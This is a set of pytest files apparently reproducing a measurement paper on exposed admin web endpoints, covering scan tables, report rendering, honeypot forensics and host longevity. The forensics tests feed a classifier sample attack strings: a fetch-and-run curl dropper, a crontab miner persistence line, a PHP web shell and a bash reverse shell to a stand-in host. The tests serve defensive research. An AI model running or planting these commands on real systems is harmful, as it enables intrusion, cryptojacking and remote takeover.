        # model at rate 1e-7 is noisy, so only coarse shape checks).
        assert rows[80]["# Open"] > rows[2375]["# Open"]
        assert rows["Total"]["# Open"] > 0

    def test_estimates_with_denser_background(self):
        from repro.experiments.config import StudyConfig
        from repro.experiments.scan import run_scan_study
        from repro.net.population import PopulationModel

        config = StudyConfig(
            population=PopulationModel(
                awe_rate=0.002, vuln_rate=0.05, background_rate=5e-6
            ),
            fingerprint=False,
        )
        study = run_scan_study(config)
        rows = {row["Port"]: row for row in study.table2().as_dicts()}
        # Scaled-up estimates should land near the paper's Table 2.
        assert 40e6 < rows[80]["# Open"] < 75e6
        assert 40e6 < rows[80]["# HTTP"] < 70e6
        assert 30e6 < rows[443]["# Open"] < 70e6
        # HTTPS responses on 443 are ~70% of opens.
        assert rows[443]["# HTTPS"] < rows[443]["# Open"]
        # Docker's 2375 is the rarest scanned port.
        small_ports = [rows[p]["# Open"] for p in (2375, 4646, 8153, 8192)]
        assert rows[2375]["# Open"] == min(small_ports)


class TestTable3:
    def test_mav_column_matches_paper(self, calibrated_scan_study):
        table = calibrated_scan_study.table3()
        mavs = {row["App"]: row["# MAVs"] for row in table.as_dicts()}
        assert mavs["Docker"] == 657
        assert mavs["Nomad"] == 729
        assert mavs["WordPress"] == 345
        assert mavs["Polynote"] == 8
        assert mavs["Ajenti"] == 0

    def test_total_row(self, calibrated_scan_study):
        table = calibrated_scan_study.table3()
        total = table.as_dicts()[-1]
        assert total["# MAVs"] == 4221

    def test_wordpress_share_dominates(self, calibrated_scan_study):
        table = calibrated_scan_study.table3()
        shares = {row["App"]: row["Share"] for row in table.as_dicts()}
        wordpress = float(str(shares["WordPress"]).rstrip("%"))
        kubernetes = float(str(shares["Kubernetes"]).rstrip("%"))
        assert 50 < wordpress < 66   # paper: 58.33%
        assert 20 < kubernetes < 36  # paper: 28.16%

    def test_default_symbols(self, calibrated_scan_study):
        table = calibrated_scan_study.table3()
        defaults = {row["App"]: row["Default"] for row in table.as_dicts()}
        assert defaults["Kubernetes"] == "Y"
        assert defaults["Docker"] == "X"
        assert defaults["Jenkins"] == "t"


class TestTable4:
    def test_top_country_is_us_then_china(self, calibrated_scan_study):
        table = calibrated_scan_study.table4()
        countries = [row["Country"] for row in table.as_dicts()[:2]]
        assert countries == ["United States", "China"]

    def test_top_as_includes_cloud_giants(self, calibrated_scan_study):
        table = calibrated_scan_study.table4()
        providers = {row["Provider"] for row in table.as_dicts()[:5]}
        assert "Amazon EC2" in providers
        assert "Alibaba" in providers

    def test_hosting_share_row(self, calibrated_scan_study):
        table = calibrated_scan_study.table4()
        last = table.as_dicts()[-1]
        share = float(str(last["Hosts"]).rstrip("%"))
        assert 55 <= share <= 75  # paper: ~64%


class TestScannedPortsSanity:
    def test_prevalence_slugs_have_ports(self):
        ports = set(scanned_ports())
        from repro.apps.catalog import app_by_slug

        for prevalence in PAPER_PREVALENCE:
            spec = app_by_slug(prevalence.slug)
            assert set(spec.default_ports) <= ports
