"""Tests for the combined report renderers."""

import pytest


@pytest.fixture(scope="module")
def full_study(tiny_config):
    from repro.experiments.full_study import run_full_study

    return run_full_study(tiny_config)


class TestTextReport:
    def test_contains_every_section(self, full_study):
        report = full_study.render()
        for marker in (
            "Table 1", "Table 2", "Table 3", "Table 4", "Figure 1",
            "Figure 2", "Table 5", "Table 6", "Figure 3", "Figure 4",
            "Table 7", "Table 8", "Table 9",
            "Attack purposes", "Headline numbers",
        ):
            assert marker in report, marker

    def test_insights_section(self, full_study):
        report = full_study.render()
        assert "Defaults are important" in report
        assert "No consensus on MAVs" in report
        assert "HOLDS" in report


class TestMarkdownReport:
    def test_has_markdown_structure(self, full_study):
        markdown = full_study.render_markdown()
        assert markdown.startswith("# No Keys to the Kingdom")
        assert "## Table 3 — AWE prevalence and MAVs" in markdown
        assert "```" in markdown

    def test_same_tables_as_text(self, full_study):
        markdown = full_study.render_markdown()
        text = full_study.render()
        # The Table 5 body is identical in both renderings.
        for line in text.splitlines():
            if line.startswith("Table 5:"):
                assert line in markdown
