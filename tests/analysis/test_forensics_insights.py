"""Tests for the forensics triage and the §6.1 insight calculators."""

import pytest

from repro.analysis.attacks import Attack
from repro.analysis.forensics import (
    AttackPurpose,
    classify_attack,
    classify_command,
    forensics_table,
    profile_campaigns,
    purpose_breakdown,
)
from repro.analysis.insights import (
    changed_defaults_insight,
    consensus_insight,
    defaults_insight,
    defender_gap_insight,
)


class TestCommandClassification:
    def test_kinsing_dropper_is_cryptojacking(self):
        traits = classify_command("curl -fsSL hxxp://x.invalid/k.sh | sh")
        assert traits.purpose is AttackPurpose.CRYPTOJACKING
        assert traits.downloads_dropper

    def test_monero_killer_traits(self):
        traits = classify_command(
            "pkill-competitors && (crontab -l; echo '* * * * * miner') | crontab - && run-xmrig"
        )
        assert traits.purpose is AttackPurpose.CRYPTOJACKING
        assert traits.persists
        assert traits.kills_competitors

    def test_vigilante(self):
        assert classify_command("shutdown -h now").purpose is AttackPurpose.VIGILANTE

    def test_webshell(self):
        assert classify_command(
            "<?php system($_GET['c']); ?>"
        ).purpose is AttackPurpose.WEBSHELL

    def test_reverse_shell_is_botnet(self):
        assert classify_command(
            "bash -i >& /dev/tcp/c2.invalid/4444 0>&1"
        ).purpose is AttackPurpose.BOTNET

    def test_recon(self):
        assert classify_command("uname -a; id; nproc").purpose is AttackPurpose.RECONNAISSANCE

    def test_unknown(self):
        assert classify_command("true").purpose is AttackPurpose.UNKNOWN


class TestAttackClassification:
    def _attack(self, *commands):
        return Attack("hadoop", 1, 0.0, 1.0, list(commands), {1})

    def test_most_severe_purpose_wins(self):
        attack = self._attack("uname -a", "curl x.invalid/m | sh")
        assert classify_attack(attack) is AttackPurpose.CRYPTOJACKING

    def test_breakdown(self):
        attacks = [
            self._attack("curl x.invalid | sh"),
            self._attack("shutdown -h now"),
            self._attack("uname -a"),
        ]
        breakdown = purpose_breakdown(attacks)
        assert breakdown[AttackPurpose.CRYPTOJACKING] == 1
        assert breakdown[AttackPurpose.VIGILANTE] == 1

    def test_table_renders(self):
        assert "cryptojacking" in forensics_table(
            [self._attack("curl x.invalid | sh")]
        ).render()


class TestHoneypotForensics:
    """Against the full honeypot study: the paper's RQ4 narrative."""

    def test_cryptojacking_dominates(self, honeypot_study):
        breakdown = purpose_breakdown(honeypot_study.attacks)
        total = sum(breakdown.values())
        assert breakdown[AttackPurpose.CRYPTOJACKING] / total > 0.5

    def test_vigilante_present_on_jupyterlab_only(self, honeypot_study):
        vigilante_apps = {
            a.honeypot for a in honeypot_study.attacks
            if classify_attack(a) is AttackPurpose.VIGILANTE
        }
        assert vigilante_apps == {"jupyterlab"}

    def test_campaign_profiles(self, honeypot_study):
        profiles = profile_campaigns(honeypot_study.attacks, honeypot_study.clusters)
        assert len(profiles) == len(honeypot_study.clusters)
        # The Kinsing-like cross-app campaign: cryptojacking spanning
        # Docker and Hadoop with persistence.
        kinsing_like = [
            p for p in profiles
            if p.is_cross_application_campaign
            and set(p.applications) == {"docker", "hadoop"}
            and p.purpose is AttackPurpose.CRYPTOJACKING
        ]
        assert kinsing_like
        assert any(p.persists for p in kinsing_like)

    def test_monero_killer_campaign_detected(self, honeypot_study):
        profiles = profile_campaigns(honeypot_study.attacks, honeypot_study.clusters)
        killers = [p for p in profiles if p.kills_competitors]
        assert killers
        assert all(p.purpose is AttackPurpose.CRYPTOJACKING for p in killers)
        # It is the most active attacker overall (719 attacks on Hadoop).
        assert max(p.attack_count for p in killers) > 500


class TestInsights:
    def test_defaults_insight(self, calibrated_scan_study):
        insight = defaults_insight(
            calibrated_scan_study.report, calibrated_scan_study.census
        )
        # Paper: "all products where about 5% or more of the exposed AWEs
        # were vulnerable, they were so because of insecure defaults."
        assert insight.holds
        assert {"docker", "hadoop", "nomad", "gocd"} <= set(insight.high_rate_apps)

    def test_changed_defaults_insight(self, calibrated_scan_study):
        from repro.analysis.versions import to_versioned

        observations = to_versioned(calibrated_scan_study.report.observations())
        insight = changed_defaults_insight(observations)
        assert insight.change_was_effective        # most MAVs are pre-4.3
        assert insight.tail_still_exists           # but hundreds remain
        assert insight.remaining_mavs > 200

    def test_changed_defaults_requires_changed_app(self):
        with pytest.raises(ValueError):
            changed_defaults_insight([], slug="hadoop")

    def test_defender_gap(self, honeypot_study, defender_study):
        insight = defender_gap_insight(
            honeypot_study.attacks, defender_study.detections()
        )
        assert insight.defenders_are_behind
        # Jupyter Lab and GravCMS: actively attacked, detected by nobody.
        assert "jupyterlab" in insight.attacked_but_undetected
        assert "grav" in insight.attacked_but_undetected

    def test_consensus_insight(self, defender_study):
        insight = consensus_insight(defender_study.detections())
        assert insight.overlap == {"consul", "docker"}
        assert insight.no_consensus
        assert insight.jaccard == pytest.approx(2 / 6)

    def test_consensus_empty(self):
        insight = consensus_insight({})
        assert insight.jaccard == 0.0
