"""Tests for the longevity observation log and survival series."""

import pytest

from repro.analysis.longevity import (
    HostStatus,
    LongevitySeries,
    ObservationLog,
    ObservedHost,
)
from repro.util.clock import DAY, HOUR


@pytest.fixture()
def small_log():
    log = ObservationLog()
    log.register_host(ObservedHost(1, "hadoop", True))
    log.register_host(ObservedHost(2, "wordpress", True))
    log.register_host(ObservedHost(3, "jupyterlab", False))
    log.record_sweep(0.0, {
        1: HostStatus.VULNERABLE, 2: HostStatus.VULNERABLE, 3: HostStatus.VULNERABLE,
    })
    log.record_sweep(3 * HOUR, {
        1: HostStatus.VULNERABLE, 2: HostStatus.FIXED, 3: HostStatus.VULNERABLE,
    })
    log.record_sweep(6 * HOUR, {
        1: HostStatus.OFFLINE, 2: HostStatus.FIXED, 3: HostStatus.VULNERABLE,
    })
    return log


class TestObservationLog:
    def test_sweep_must_cover_all_hosts(self, small_log):
        with pytest.raises(ValueError):
            small_log.record_sweep(9 * HOUR, {1: HostStatus.OFFLINE})

    def test_final_counts(self, small_log):
        counts = small_log.final_counts()
        assert counts[HostStatus.VULNERABLE] == 1
        assert counts[HostStatus.FIXED] == 1
        assert counts[HostStatus.OFFLINE] == 1

    def test_status_fraction(self, small_log):
        assert small_log.status_fraction(0.0, HostStatus.VULNERABLE) == 1.0
        assert small_log.status_fraction(6 * HOUR, HostStatus.VULNERABLE) == pytest.approx(1 / 3)

    def test_subset_by_app(self, small_log):
        subset = small_log.subset_by_app("hadoop")
        assert subset == {1}
        assert small_log.status_fraction(6 * HOUR, HostStatus.OFFLINE, subset) == 1.0

    def test_subset_by_default(self, small_log):
        assert small_log.subset_by_default(True) == {1, 2}
        assert small_log.subset_by_default(False) == {3}

    def test_series(self, small_log):
        series = small_log.series(HostStatus.FIXED)
        assert series.points == [
            (0.0, 0.0),
            (3 * HOUR, pytest.approx(1 / 3)),
            (6 * HOUR, pytest.approx(1 / 3)),
        ]

    def test_still_vulnerable_after(self, small_log):
        assert small_log.still_vulnerable_after(3 * HOUR) == pytest.approx(2 / 3)
        # Beyond the last sweep, the last sweep's value is used.
        assert small_log.still_vulnerable_after(5 * DAY) == pytest.approx(1 / 3)

    def test_mean_vulnerable_duration_by_app(self, small_log):
        durations = small_log.mean_vulnerable_duration_by_app()
        # hadoop vulnerable in 2 sweeps, wordpress in 1, jupyterlab in 3.
        assert durations["jupyterlab"] > durations["hadoop"] > durations["wordpress"]


class TestLongevitySeries:
    def test_at_interpolates_stepwise(self):
        series = LongevitySeries(
            HostStatus.VULNERABLE, [(0.0, 1.0), (10.0, 0.5), (20.0, 0.2)]
        )
        assert series.at(5.0) == 1.0
        assert series.at(10.0) == 0.5
        assert series.at(99.0) == 0.2
        assert series.final() == 0.2

    def test_empty_series(self):
        series = LongevitySeries(HostStatus.FIXED, [])
        assert series.final() == 0.0
